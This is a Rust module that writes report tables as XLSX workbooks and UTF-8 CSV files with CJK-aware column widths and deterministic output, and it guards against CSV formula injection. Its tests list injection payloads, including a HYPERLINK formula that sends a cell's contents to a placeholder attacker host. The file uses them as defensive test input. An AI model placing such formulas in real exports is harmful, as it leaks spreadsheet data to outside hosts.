//! Spreadsheet exports. Every report zhzj hands to a bureau (the checklist, agendas, bulletins,
//! assessments) is first a [`Table`] of typed cells; this crate writes it as an XLSX workbook —
//! Chinese headers, column widths fitted to Chinese text, a frozen header row, numbers stored as
//! numbers and dates as dates — or as CSV in UTF-8 with a byte-order mark, so that Excel on Chinese
//! Windows shows it right. Output is deterministic: the same tables give the same bytes, which is
//! what lets a published report be re-exported identically.

use chrono::{NaiveDate, NaiveDateTime};
use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, FormatAlign, Workbook};

/// One cell of a table.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// Text.
    Text(String),
    /// A whole number.
    Int(i64),
    /// A number with decimals (a rate, a score).
    Number(f64),
    /// A calendar date.
    Date(NaiveDate),
    /// Nothing.
    Empty,
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Self::Text(text.to_owned())
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Self::Text(text)
    }
}

impl From<Option<String>> for Cell {
    fn from(text: Option<String>) -> Self {
        text.map_or(Self::Empty, Self::Text)
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Self {
        Self::Int(n)
    }
}

impl From<NaiveDate> for Cell {
    fn from(date: NaiveDate) -> Self {
        Self::Date(date)
    }
}

impl From<Option<NaiveDate>> for Cell {
    fn from(date: Option<NaiveDate>) -> Self {
        date.map_or(Self::Empty, Self::Date)
    }
}

impl Cell {
    /// The cell as CSV text (dates as `YYYY-MM-DD`).
    pub fn text(&self) -> String {
        match self {
            Self::Text(text) => text.clone(),
            Self::Int(n) => n.to_string(),
            Self::Number(x) => x.to_string(),
            Self::Date(date) => date.to_string(),
            Self::Empty => String::new(),
        }
    }
}

/// A table: one sheet of a workbook, or one CSV file.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    /// The sheet's name (at most 31 characters, none of `[]:*?/\`).
    pub name: String,
    /// The header row.
    pub headers: Vec<String>,
    /// The rows, each as long as the header.
    pub rows: Vec<Vec<Cell>>,
}

/// A table could not be written.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// The workbook writer refused something (a bad sheet name, too many rows).
    #[error("XLSX: {0}")]
    Xlsx(#[from] rust_xlsxwriter::XlsxError),
    /// The CSV writer failed.
    #[error("CSV: {0}")]
    Csv(#[from] csv::Error),
    /// A row is longer or shorter than the header.
    #[error("sheet {sheet}: row {row} has {cells} cells for {headers} columns")]
    RaggedRow {
        /// The sheet.
        sheet: String,
        /// The row (1-based, after the header).
        row: usize,
        /// Its cells.
        cells: usize,
        /// The header's columns.
        headers: usize,
    },
}

/// How wide text shows: CJK and other wide characters take two columns, the rest one.
fn display_width(text: &str) -> usize {
    text.chars()
        .map(|c| if (c as u32) >= 0x1100 { 2 } else { 1 })
        .sum()
}

/// The widest column a sheet gets, in character units.
const MAX_COLUMN_WIDTH: usize = 60;

fn column_widths(table: &Table) -> Vec<f64> {
    table
        .headers
        .iter()
        .enumerate()
        .map(|(i, header)| {
            let widest = table
                .rows
                .iter()
                .filter_map(|row| row.get(i))
                .map(|cell| match cell {
                    // Text is measured where it is: a city's 明细 has millions of cells.
                    Cell::Text(text) => display_width(text),
                    Cell::Date(_) => 10,
                    other => display_width(&other.text()),
                })
                .chain(std::iter::once(display_width(header)))
                .max()
                .unwrap_or(0);
            // Two characters of air; whole units keep the file the same from run to run.
            let width = (widest + 2).min(MAX_COLUMN_WIDTH);
            f64::from(u32::try_from(width).unwrap_or(60))
        })
        .collect()
}

fn check_rows(table: &Table) -> Result<(), ExportError> {
    for (i, row) in table.rows.iter().enumerate() {
        if row.len() != table.headers.len() {
            return Err(ExportError::RaggedRow {
                sheet: table.name.clone(),
                row: i + 1,
                cells: row.len(),
                headers: table.headers.len(),
            });
        }
    }
    Ok(())
}

/// Writes `tables` as the sheets of one XLSX workbook. `created` is the creation time recorded
/// in the workbook's properties: the time of the data, not of the export, so that exporting the
/// same data again gives the same bytes.
pub fn to_xlsx(tables: &[Table], created: NaiveDateTime) -> Result<Vec<u8>, ExportError> {
    let mut workbook = Workbook::new();
    // A time Excel cannot hold (data dated before 1900) is recorded as the start of 1900.
    let created = ExcelDateTime::from_timestamp(created.and_utc().timestamp())
        .or_else(|_| ExcelDateTime::from_ymd(1900, 1, 1))?;
    workbook.set_properties(&DocProperties::new().set_creation_datetime(&created));
    let header = Format::new().set_bold().set_align(FormatAlign::Center);
    let date = Format::new().set_num_format("yyyy-mm-dd");
    for table in tables {
        check_rows(table)?;
        // Rows are written in order, each once: they go to a temporary file as they come, their
        // text into the workbook's shared strings (a 明细 repeats its units, figures and 是/否
        // a million times: stored once, the sheet is smaller to write and to compress).
        let sheet = workbook.add_worksheet_with_low_memory()?;
        sheet.set_name(&table.name)?;
        for (col, (title, width)) in table.headers.iter().zip(column_widths(table)).enumerate() {
            let col =
                u16::try_from(col).map_err(|_| rust_xlsxwriter::XlsxError::RowColumnLimitError)?;
            sheet.write_string_with_format(0, col, title, &header)?;
            sheet.set_column_width(col, width)?;
        }
        sheet.set_freeze_panes(1, 0)?;
        for (r, row) in table.rows.iter().enumerate() {
            let r = u32::try_from(r + 1)
                .map_err(|_| rust_xlsxwriter::XlsxError::RowColumnLimitError)?;
            for (col, cell) in row.iter().enumerate() {
                let col = u16::try_from(col)
                    .map_err(|_| rust_xlsxwriter::XlsxError::RowColumnLimitError)?;
                match cell {
                    Cell::Text(text) => {
                        sheet.write_string(r, col, text)?;
                    }
                    Cell::Int(n) => {
                        // Whole numbers well inside f64's exact range (counts, days).
                        sheet.write_number(r, col, *n as f64)?;
                    }
                    Cell::Number(x) => {
                        sheet.write_number(r, col, *x)?;
                    }
                    Cell::Date(day) => match excel_date(*day) {
                        Some(day) => {
                            sheet.write_datetime_with_format(r, col, &day, &date)?;
                        }
                        // Excel has no such date: written as the text a reader would type.
                        None => {
                            sheet.write_string(r, col, day.to_string())?;
                        }
                    },
                    Cell::Empty => {}
                }
            }
        }
    }
    // Level 3 (as Excel itself writes): about a third faster to save than the default 6,
    // about 5 % larger.
    workbook.set_zip_compression_level(3);
    Ok(workbook.save_to_buffer()?)
}

/// `day` as an Excel date, when Excel can hold it (1900-01-01 to 9999-12-31).
fn excel_date(day: NaiveDate) -> Option<ExcelDateTime> {
    use chrono::Datelike;
    let year = u16::try_from(day.year())
        .ok()
        .filter(|y| (1900..=9999).contains(y))?;
    let month = u8::try_from(day.month()).ok()?;
    let day = u8::try_from(day.day()).ok()?;
    ExcelDateTime::from_ymd(year, month, day).ok()
}

/// The characters that make Excel or WPS read a CSV cell as a formula (or start one, after a tab
/// or carriage return), the CSV-injection list of OWASP.
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as CSV writes it: one that a spreadsheet would run as a formula
/// (`=HYPERLINK(…)`, `+1`, `@SUM(…)`) gets a leading apostrophe, which Excel and WPS take as
/// "this is text" and do not show. Numbers and dates are written as they are: `-3` stays a number.
fn csv_text(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) if text.starts_with(FORMULA_TRIGGERS) => format!("'{text}"),
        other => other.text(),
    }
}

/// Undoes [`csv_text`] on a cell read back from a CSV zhzj wrote: `'=…` is `=…` again. Text that
/// merely starts with an apostrophe and no formula character after it is left alone.
pub fn csv_cell_as_written(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_TRIGGERS) => rest,
        _ => cell,
    }
}

/// Writes one table as CSV: UTF-8 with a byte-order mark, CRLF line ends, a header row. Text that
/// a spreadsheet would run as a formula is written so that it opens as text.
pub fn to_csv(table: &Table) -> Result<Vec<u8>, ExportError> {
    check_rows(table)?;
    let mut out = Vec::from("\u{feff}".as_bytes());
    {
        let mut writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut out);
        writer.write_record(
            table
                .headers
                .iter()
                .map(|h| csv_text(&Cell::Text(h.clone()))),
        )?;
        for row in &table.rows {
            writer.write_record(row.iter().map(csv_text))?;
        }
        writer.flush().map_err(csv::Error::from)?;
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use calamine::{Data, Reader, Xlsx};

    use super::*;

    fn sample() -> Table {
        Table {
            name: "清单".into(),
            headers: vec![
                "案件编号".into(),
                "诉求".into(),
                "措施数".into(),
                "期限".into(),
            ],
            rows: vec![
                vec![
                    "XM-2026-0001".into(),
                    "要求解决房屋征收补偿问题，含逗号,与\"引号\"".into(),
                    Cell::Int(3),
                    Cell::Date(NaiveDate::from_ymd_opt(2026, 5, 6).unwrap_or_default()),
                ],
                vec![
                    "XM-2026-0002".into(),
                    Cell::Empty,
                    Cell::Number(0.85),
                    Cell::Empty,
                ],
            ],
        }
    }

    fn created() -> NaiveDateTime {
        NaiveDate::from_ymd_opt(2026, 3, 2)
            .and_then(|d| d.and_hms_opt(9, 0, 0))
            .unwrap_or_default()
    }

    #[test]
    fn a_workbook_reads_back_with_typed_cells() -> Result<(), Box<dyn std::error::Error>> {
        let bytes = to_xlsx(&[sample()], created())?;
        let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes))?;
        let range = workbook.worksheet_range("清单")?;
        assert_eq!(range.get_value((0, 1)), Some(&Data::String("诉求".into())));
        assert_eq!(range.get_value((1, 2)), Some(&Data::Float(3.0)));
        assert_eq!(range.get_value((2, 2)), Some(&Data::Float(0.85)));
        let Some(Data::DateTime(due)) = range.get_value((1, 3)) else {
            panic!("a date is stored as a date: {:?}", range.get_value((1, 3)));
        };
        assert_eq!(
            due.as_datetime().map(|d| d.date()),
            NaiveDate::from_ymd_opt(2026, 5, 6)
        );
        Ok(())
    }

    #[test]
    fn dates_excel_cannot_hold_are_written_as_text() -> Result<(), Box<dyn std::error::Error>> {
        let day = |y, m, d| NaiveDate::from_ymd_opt(y, m, d).unwrap_or_default();
        let mut table = sample();
        table.rows[0][3] = Cell::Date(day(1, 1, 1));
        table.rows[1][3] = Cell::Date(day(1899, 12, 30));
        let early = day(1, 1, 1).and_hms_opt(0, 0, 0).unwrap_or_default();
        let bytes = to_xlsx(&[table], early)?;
        let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes))?;
        let range = workbook.worksheet_range("清单")?;
        assert_eq!(
            range.get_value((1, 3)),
            Some(&Data::String("0001-01-01".into()))
        );
        assert_eq!(
            range.get_value((2, 3)),
            Some(&Data::String("1899-12-30".into()))
        );
        Ok(())
    }

    #[test]
    fn the_same_tables_give_the_same_bytes() -> Result<(), Box<dyn std::error::Error>> {
        assert_eq!(
            to_xlsx(&[sample()], created())?,
            to_xlsx(&[sample()], created())?
        );
        Ok(())
    }

    #[test]
    fn csv_has_a_bom_and_quotes_what_needs_it() -> Result<(), Box<dyn std::error::Error>> {
        let text = String::from_utf8(to_csv(&sample())?)?;
        assert!(
            text.starts_with("\u{feff}案件编号,诉求,措施数,期限\r\n"),
            "{text}"
        );
        assert!(
            text.contains("\"要求解决房屋征收补偿问题，含逗号,与\"\"引号\"\"\",3,2026-05-06\r\n"),
            "{text}"
        );
        assert!(text.ends_with("XM-2026-0002,,0.85,\r\n"), "{text}");
        Ok(())
    }

    #[test]
    fn formula_text_opens_as_text_in_csv_and_xlsx() -> Result<(), Box<dyn std::error::Error>> {
        let attacks = [
            "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击查看\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ];
        let mut table = sample();
        table.rows = attacks
            .iter()
            .map(|a| vec![(*a).into(), "诉求".into(), Cell::Int(-3), Cell::Empty])
            .collect();
        let csv = to_csv(&table)?;
        let mut reader = csv::Reader::from_reader(&csv[3..]);
        for (record, attack) in reader.records().zip(attacks) {
            let record = record?;
            assert_eq!(&record[0], format!("'{attack}"), "{record:?}");
            assert_eq!(csv_cell_as_written(&record[0]), attack);
            assert_eq!(&record[2], "-3", "a negative number stays a number");
        }
        assert_eq!(csv_cell_as_written("'普通文本"), "'普通文本");
        // XLSX stores text as shared strings, never as formulas.
        let bytes = to_xlsx(&[table], created())?;
        let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes))?;
        let range = workbook.worksheet_range("清单")?;
        assert_eq!(
            range.get_value((1, 0)),
            Some(&Data::String(attacks[0].into()))
        );
        let formulas = workbook.worksheet_formula("清单")?;
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no cell is a formula"
        );
        Ok(())
    }

    #[test]
    fn chinese_text_gets_wider_columns() {
        let widths = column_widths(&sample());
        // "要求解决…" is 20 wide characters and 7 narrow ones.
        assert!(widths[1] > widths[0], "{widths:?}");
        assert_eq!(display_width("诉求"), 4);
    }

    #[test]
    fn a_ragged_row_is_refused() {
        let mut table = sample();
        table.rows[1].pop();
        assert!(matches!(
            to_csv(&table),
            Err(ExportError::RaggedRow { row: 2, .. })
        ));
    }
}
